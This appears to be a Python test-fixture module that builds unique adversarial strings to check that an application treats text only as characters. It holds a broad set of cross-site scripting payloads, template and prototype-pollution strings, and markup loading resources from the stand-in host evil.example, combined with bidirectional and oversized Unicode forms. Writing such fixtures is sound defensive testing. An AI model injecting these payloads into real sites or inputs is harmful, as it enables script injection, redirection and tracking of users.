"""Texts that try to be more than text: markup, scripts, addresses, directions, sizes. All of them call `owned()` or ask EVIL for
something if anything of them is taken for more than characters."""

from __future__ import annotations

from itertools import cycle

EVIL = "evil.example"
_CALLS = ("owned()", "window.owned()", "parent.owned()", "top['owned']()", "eval('owned()')", "Function('owned()')()")
_ELEMENTS = (
    "<script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style></script><script>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="https://{host}/p.png">',
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    "<math><mtext><script>{js}</script></mtext></math>",
    '<iframe src="https://{host}/"></iframe>',
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    '<object data="https://{host}/o.swf"></object>',
    '<embed src="https://{host}/e">',
    '<link rel="stylesheet" href="https://{host}/s.css">',
    "<style>@import 'https://{host}/i.css'; * {{ display: none !important }}</style>",
    '<meta http-equiv="refresh" content="0;url=https://{host}/">',
    '<base href="https://{host}/">',
    '<form action="https://{host}/"><button autofocus onfocus="{js}">x</button></form>',
    '<input autofocus onfocus="{js}">',
    '<details open ontoggle="{js}"><summary>x</summary></details>',
    '<video><source onerror="{js}"></video>',
    '<audio src="https://{host}/a.mp3" autoplay></audio>',
    '<body onload="{js}">',
    '<marquee onstart="{js}">x</marquee>',
    '<a href="javascript:{js}">x</a>',
    '<a href="https://{host}/" ping="https://{host}/ping">x</a>',
    '<template shadowrootmode="open"><script>{js}</script></template>',
    '<x onclick="{js}" style="position:fixed;inset:0">x</x>',
    '<div style="background:url(https://{host}/b.png)">x</div>',
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
)
_TEXTS = (
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "https://{host}/?{js}",
    "//{host}/x",
    "[click](javascript:{js})",
    "![picture](https://{host}/m.png)",
    "**<b onmouseover={js}>bold</b>**",
    "- <li onclick={js}>item</li>",
    "`{js}` ${{{js}}} {{{{{js}}}}} {{% {js} %}}",
    "'; {js}; '",
    '"; {js}; "',
    '" onload="{js}" x="',
    "' autofocus onfocus='{js}",
    "${{{js}}}",
    "constructor.constructor('{js}')()",
    '{{"__proto__": {{"{js}": true}}}}',
    "__proto__",
    "[object Object]",
)
_FORMS = (
    "\u202e{text}\u202c",
    "\u2066\u2067{text}",
    "\u200f{text} مرحبا שלום",
    "{text}\u2028\u2029{text}",
    "{text}" + "W" * 600,
    "長" * 400 + "{text}",
    "Z\u0351\u036f\u0321" * 60 + "{text}",
    "\ufeff\u200b\u200d{text}\u00ad",
    "👩‍👩‍👧‍👦" * 40 + "{text}",
    "&lt;{text}&gt; &#x3c;{text}&#62; \\u003c{text} %3C{text}",
    "{text}\t\t\r\n\n\n{text}",
)


def payloads(number: int) -> list[str]:
    """So many texts, no two the same, every kind in every form before any comes again."""
    kinds = (*_ELEMENTS, *_TEXTS)
    made: dict[str, None] = {}
    calls = cycle(_CALLS)
    for form in ("{text}", *_FORMS):
        for kind in kinds:
            text = kind.format(js=next(calls), host=EVIL)
            made[form.replace("{text}", text)] = None
    assert len(made) >= number, f"there are only {len(made)}"
    return list(made)[:number]
